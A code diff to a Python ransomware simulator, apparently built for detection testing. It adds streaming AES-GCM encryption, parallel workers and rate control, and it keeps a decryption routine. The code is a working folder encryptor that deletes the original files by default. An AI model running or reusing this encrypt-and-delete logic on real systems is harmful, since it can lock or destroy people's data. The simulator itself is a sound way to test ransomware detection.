@@ -1,14 +1,20 @@
 # simulate.py
 import os
 import time
+import struct
+import hashlib
+from functools import partial
 from typing import List, Optional
 
 from cryptography.fernet import Fernet   # AES-128 + HMAC (Fernet)
+from cryptography.hazmat.primitives.ciphers.aead import AESGCM
 try:
     from tqdm import tqdm
 except Exception:
     tqdm = None  # fallback: no progress bar
 
+from sim_executor import run_parallel, rate_from_delay
+
 # emit/ stage dari progress.py — pastikan progress.py ada di path project
 try:
     from progress import emit
@@ -34,11 +40,7 @@ def _iter_all_files(root_dir: str):
 
 
 # ====================== Key Management ======================
-def generate_key(key_file: str = "ransom.key") -> Fernet:
-    """
-    Membuat / memuat kunci enkripsi untuk simulasi ransomware.
-    Mengembalikan objek Fernet.
-    """
+def _load_or_create_key(key_file: str) -> bytes:
     if not os.path.exists(key_file):
         key = Fernet.generate_key()
         with open(key_file, "wb") as f:
@@ -46,15 +48,111 @@ def generate_key(key_file: str = "ransom.key") -> Fernet:
     else:
         with open(key_file, "rb") as f:
             key = f.read()
-    return Fernet(key)
+    return key
+
+
+def generate_key(key_file: str = "ransom.key") -> Fernet:
+    """
+    Membuat / memuat kunci enkripsi untuk simulasi ransomware.
+    Mengembalikan objek Fernet.
+    """
+    return Fernet(_load_or_create_key(key_file))
+
+
+# ====================== Streaming (AES-GCM per chunk) ======================
+# Layout file mode "stream" (setelah marker):
+#   STREAM_MAGIC | chunk_size (uint32 LE) | nonce_prefix (4 byte)
+#   frame*: panjang ciphertext (uint32 LE) | AES-GCM(chunk) + tag 16 byte
+# Nonce = nonce_prefix + nomor chunk (uint64 BE). AAD menandai chunk terakhir,
+# jadi file yang terpotong di batas chunk tetap gagal didekripsi.
+MARKER = b"SIMULATED_RANSOMWARE\n"
+STREAM_MAGIC = b"SRGCM1"
+STREAM_HEADER = struct.Struct("<6sI4s")
+FRAME_LEN = struct.Struct("<I")
+DEFAULT_CHUNK_SIZE = 1024 * 1024
+_AAD_MORE, _AAD_LAST = b"\x00", b"\x01"
+
+
+def _stream_cipher(key: bytes) -> AESGCM:
+    """Kunci AES-256 untuk mode stream diturunkan dari key file Fernet yang sama."""
+    return AESGCM(hashlib.sha256(b"simulate-stream-v1" + key.strip()).digest())
+
+
+def _nonce(prefix: bytes, counter: int) -> bytes:
+    return prefix + counter.to_bytes(8, "big")
+
+
+def _encrypt_stream(aes: AESGCM, src: str, dst: str, chunk_size: int = DEFAULT_CHUNK_SIZE) -> None:
+    """Enkripsi src -> dst chunk demi chunk; memori konstan ~2x chunk_size."""
+    prefix = os.urandom(4)
+    with open(src, "rb") as fin, open(dst, "wb") as fout:
+        fout.write(MARKER + STREAM_HEADER.pack(STREAM_MAGIC, chunk_size, prefix))
+        counter = 0
+        chunk = fin.read(chunk_size)
+        while True:
+            nxt = fin.read(chunk_size) if len(chunk) == chunk_size else b""
+            last = not nxt
+            ct = aes.encrypt(_nonce(prefix, counter), chunk, _AAD_LAST if last else _AAD_MORE)
+            fout.write(FRAME_LEN.pack(len(ct)))
+            fout.write(ct)
+            if last:
+                return
+            chunk = nxt
+            counter += 1
+
+
+def _decrypt_stream(aes: AESGCM, fin, fout) -> None:
+    """fin sudah diposisikan tepat setelah marker."""
+    magic, chunk_size, prefix = STREAM_HEADER.unpack(fin.read(STREAM_HEADER.size))
+    if magic != STREAM_MAGIC:
+        raise ValueError("Header stream tidak valid.")
+    counter = 0
+    while True:
+        raw = fin.read(FRAME_LEN.size)
+        if len(raw) < FRAME_LEN.size:
+            raise ValueError("File stream terpotong (chunk terakhir tidak ditemukan).")
+        (length,) = FRAME_LEN.unpack(raw)
+        if length > chunk_size + 16:
+            raise ValueError("Panjang frame tidak valid.")
+        ct = fin.read(length)
+        nonce = _nonce(prefix, counter)
+        try:
+            fout.write(aes.decrypt(nonce, ct, _AAD_MORE))
+        except Exception:
+            fout.write(aes.decrypt(nonce, ct, _AAD_LAST))
+            return
+        counter += 1
 
 
 # ====================== Simulation ======================
+def _encrypt_one(file_path: str, *, key: bytes, extension: str, mode: str,
+                 chunk_size: int, delete_plain: bool):
+    """Aksi per file untuk executor (top-level agar bisa dipakai process pool)."""
+    # tulis file baru tanpa hapus file asli
+    new_path = file_path + extension
+    os.makedirs(os.path.dirname(new_path), exist_ok=True)
+    if mode == "stream":
+        _encrypt_stream(_stream_cipher(key), file_path, new_path, chunk_size)
+    else:
+        with open(file_path, "rb") as fh:
+            data = fh.read()
+        with open(new_path, "wb") as fh:
+            fh.write(MARKER + Fernet(key).encrypt(data))
+
+    delete_error = None
+    if delete_plain:
+        try:
+            os.remove(file_path)
+        except Exception as e:
+            delete_error = str(e)
+    return new_path, delete_error
+
+
 def simulate_ransomware_safe(
     source_folder: str,
     extension: str = ".wncry",   # ganti extension sesuai kebutuhan deteksi
     key_file: str = "ransom.key",
-    delay: float = 0.05,
+    delay: float = 0.0,
     use_tqdm: bool = True,
     *,
     # ===== tambahan agar kompatibel dengan main.py baru =====
@@ -63,6 +161,12 @@ def simulate_ransomware_safe(
     skip_if_already_encrypted: bool = True,
     include_exts: Optional[list[str]] = None,  # contoh: ["txt","csv","png"]; None = semua file
     delete_plain_after_encrypt: bool = True,
+    mode: str = "stream",
+    chunk_size: int = DEFAULT_CHUNK_SIZE,
+    workers: Optional[int] = None,
+    files_per_s: Optional[float] = None,
+    mb_per_s: Optional[float] = None,
+    processes: bool = False,
 ) -> List[str]:
     """
     Simulasi ransomware dengan progress bar dan emit event.
@@ -71,7 +175,13 @@ def simulate_ransomware_safe(
     - Jika reset_key=True: hapus key file agar generate kunci baru.
     - skip_if_already_encrypted=True: lewati file yang sudah punya ekstensi target (hindari .wncry.wncry).
     - include_exts=None: enkripsi semua file; jika list diberikan, hanya file dengan ekstensi itu (tanpa titik).
+    - mode="stream": AES-GCM per chunk (memori konstan, cocok untuk file multi-GB);
+      mode="fernet": format lama (seluruh file dibaca ke memori).
+    - workers / files_per_s / mb_per_s / processes: paralelisme & laju target
+      (lihat sim_executor.py). `delay` lama dipetakan ke files_per_s = 1/delay.
     """
+    if mode not in ("stream", "fernet"):
+        raise ValueError(f"mode tidak dikenal: {mode}")
     if not os.path.isdir(source_folder):
         emit("simulate_ransomware_error", error="source_not_found", folder=source_folder)
         raise FileNotFoundError(f"Source folder tidak ditemukan: {source_folder}")
@@ -100,7 +210,7 @@ def simulate_ransomware_safe(
 
     # 3) Siapkan kunci
     try:
-        fernet = generate_key(key_file)
+        key = _load_or_create_key(key_file)
     except Exception as e:
         emit("simulate_ransomware_error", error=str(e))
         raise
@@ -120,54 +230,43 @@ def simulate_ransomware_safe(
         targets.append(file_path)
 
     total = len(targets)
-    emit("simulate_ransomware_start", total=total, folder=source_folder, extension=extension)
+    emit("simulate_ransomware_start", total=total, folder=source_folder, extension=extension, mode=mode)
     print(f"[SIMULATION] Menyerang {total} file di {source_folder}...")
 
     encrypted_files: List[str] = []
     fails = 0
-    iterator = _safe_tqdm(targets, use_tqdm and total > 0, desc="Enkripsi file", unit="file")
-
-    marker = b"SIMULATED_RANSOMWARE\n"
-
-    for idx, file_path in enumerate(iterator, start=1):
-        try:
-            # baca file
-            with open(file_path, "rb") as fh:
-                data = fh.read()
-
-            # enkripsi + marker
-            encrypted_data = marker + fernet.encrypt(data)
-
-            # tulis file baru tanpa hapus file asli
-            new_path = file_path + extension
-            os.makedirs(os.path.dirname(new_path), exist_ok=True)
-            with open(new_path, "wb") as fh:
-                fh.write(encrypted_data)
-            
-            if delete_plain_after_encrypt:
-                try:
-                    os.remove(file_path)
-                    emit("simulate_ransomware_delete_plain", file=file_path, status="deleted")
-                except Exception as e:
-                    emit("simulate_ransomware_delete_plain", file=file_path, status="error", error=str(e))
+    action = partial(_encrypt_one, key=key, extension=extension, mode=mode,
+                     chunk_size=chunk_size, delete_plain=delete_plain_after_encrypt)
 
-            encrypted_files.append(new_path)
-            emit(
-                "simulate_ransomware_file",
-                idx=idx, total=total,
-                file=file_path, dst=new_path, status="ok"
-            )
-        except Exception as e:
+    def on_done(idx, file_path, result, error):
+        nonlocal fails
+        if error is not None:
             fails += 1
             emit(
                 "simulate_ransomware_file",
                 idx=idx, total=total,
-                file=file_path, dst=None, status="error", error=str(e)
+                file=file_path, dst=None, status="error", error=str(error)
             )
-            print(f"[SIMULATION][ERROR] Gagal enkripsi {file_path}: {e}")
-
-        if delay and delay > 0:
-            time.sleep(delay)
+            print(f"[SIMULATION][ERROR] Gagal enkripsi {file_path}: {error}")
+            return
+        new_path, delete_error = result
+        if delete_plain_after_encrypt:
+            if delete_error is None:
+                emit("simulate_ransomware_delete_plain", file=file_path, status="deleted")
+            else:
+                emit("simulate_ransomware_delete_plain", file=file_path, status="error", error=delete_error)
+        encrypted_files.append(new_path)
+        emit(
+            "simulate_ransomware_file",
+            idx=idx, total=total,
+            file=file_path, dst=new_path, status="ok"
+        )
+
+    run_parallel(
+        targets, action, on_done,
+        workers=workers, files_per_s=rate_from_delay(delay, files_per_s), mb_per_s=mb_per_s,
+        processes=processes, progress_desc="Enkripsi file" if use_tqdm else None,
+    )
 
     emit(
         "simulate_ransomware_done",
@@ -191,6 +290,8 @@ def decrypt_ransomware(
     Mengembalikan semua file terenkripsi di attack_folder (decrypt balik).
     - Mencari file dengan ekstensi target (default: .wncry).
     - Menghapus marker "SIMULATED_RANSOMWARE\\n" sebelum decrypt.
+    - Format dideteksi otomatis: stream (AES-GCM per chunk, didekripsi
+      bertahap) atau Fernet lama.
     - Menulis hasil ke output_folder jika diberikan; bila tidak, menulis di folder yang sama.
     """
     if not os.path.exists(key_file):
@@ -200,6 +301,7 @@ def decrypt_ransomware(
     with open(key_file, "rb") as f:
         key = f.read()
     fernet = Fernet(key)
+    aes = _stream_cipher(key)
 
     all_enc_files = []
     for root, _, files in os.walk(attack_folder):
@@ -215,19 +317,8 @@ def decrypt_ransomware(
     fails = 0
     iterator = _safe_tqdm(all_enc_files, use_tqdm and total > 0, desc="Decrypt file", unit="file")
 
-    marker = b"SIMULATED_RANSOMWARE\n"
-
     for idx, enc_path in enumerate(iterator, start=1):
         try:
-            with open(enc_path, "rb") as fh:
-                enc_data = fh.read()
-
-            # hapus marker sebelum decrypt
-            if enc_data.startswith(marker):
-                enc_data = enc_data[len(marker):]
-
-            dec_data = fernet.decrypt(enc_data)
-
             rel_path = os.path.relpath(enc_path, attack_folder)
             # hilangkan ekstensi terenkripsi
             if rel_path.endswith(extension):
@@ -240,8 +331,31 @@ def decrypt_ransomware(
                 dst_path = os.path.join(os.path.dirname(enc_path), rel_path)
 
             os.makedirs(os.path.dirname(dst_path), exist_ok=True)
-            with open(dst_path, "wb") as fh:
-                fh.write(dec_data)
+            with open(enc_path, "rb") as fin:
+                # hapus marker sebelum decrypt
+                head = fin.read(len(MARKER))
+                if head != MARKER:
+                    fin.seek(0)
+                start = fin.tell()
+                if fin.read(len(STREAM_MAGIC)) == STREAM_MAGIC:
+                    fin.seek(start)
+                    # tulis ke .tmp: plaintext yang belum terverifikasi tag-nya tidak muncul di dst
+                    tmp_path = dst_path + ".tmp"
+                    try:
+                        with open(tmp_path, "wb") as fout:
+                            _decrypt_stream(aes, fin, fout)
+                        os.replace(tmp_path, dst_path)
+                    except Exception:
+                        try:
+                            os.remove(tmp_path)
+                        except OSError:
+                            pass
+                        raise
+                else:
+                    fin.seek(start)
+                    dec_data = fernet.decrypt(fin.read())
+                    with open(dst_path, "wb") as fh:
+                        fh.write(dec_data)
 
             decrypted.append(dst_path)
             emit("decrypt_file", idx=idx, total=total, encrypted=enc_path, restored=dst_path, status="ok")